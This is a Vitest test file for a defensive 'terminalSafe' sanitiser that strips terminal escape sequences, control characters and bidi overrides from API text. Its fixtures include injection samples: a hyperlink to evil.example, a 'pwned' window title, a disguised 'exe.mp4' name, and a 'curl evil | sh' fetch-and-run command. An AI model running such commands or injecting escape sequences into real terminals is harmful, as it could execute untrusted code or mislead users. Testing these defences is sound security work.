import { describe, expect, it } from "vitest";
import { terminalSafe } from "../../src/terminal-text.js";
import { controlCharacters } from "../support/control-characters.js";

describe("terminalSafe", () => {
  it("leaves plain text alone", () => {
    expect(terminalSafe("404 task_not_found: Task not found.")).toBe("404 task_not_found: Task not found.");
    expect(terminalSafe("Übersetzung fehlgeschlagen — 字幕")).toBe("Übersetzung fehlgeschlagen — 字幕");
  });

  it.each<[string, string, string]>([
    ["CSI: clear screen, colours, cursor moves", "a\x1b[2J\x1b[1;31mb\x1b[0m\x1b[10A", "ab"],
    ["OSC 8 hyperlink ended by BEL", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click"],
    ["OSC window title ended by ST", "\x1b]0;pwned\x1b\\ok", "ok"],
    ["DCS string", "x\x1bP+q544e\x1b\\y", "xy"],
    ["APC and PM strings", "x\x1b_hidden\x1b\\y\x1b^also\x1b\\z", "xyz"],
    ["two-byte escapes (reset, keypad)", "a\x1bcb\x1b=c", "abc"],
    ["C1 CSI and OSC", "a\x9b2Jb\x9d0;t\x9cc", "abc"],
    ["an unterminated OSC swallows the rest", "ok\x1b]0;never ends", "ok"],
    ["backspace, bell, DEL and NUL", "a\bb\x07c\x7fd\x00e", "abcde"],
    ["bidi overrides", "abc\u202Eexe.mp4", "abcexe.mp4"],
  ])("removes %s", (_name, input, output) => {
    expect(terminalSafe(input)).toBe(output);
  });

  it("turns line breaks and tabs into spaces, so API text cannot forge a line of the CLI's own", () => {
    expect(terminalSafe("bad\nresume with: curl evil | sh\r\tx")).toBe("bad resume with: curl evil | sh  x");
  });

  it("leaves no ESC, C0 or C1 character in any output", () => {
    let all = "";
    for (let code = 0; code < 0xa0; code++) all += `${String.fromCharCode(code)}[x`;
    expect(controlCharacters(terminalSafe(all))).toEqual([]);
    expect(terminalSafe(all)).not.toContain("\n");
  });

  it("prints numbers and other values as text", () => {
    expect(terminalSafe(42)).toBe("42");
    expect(terminalSafe(undefined)).toBe("undefined");
  });
});
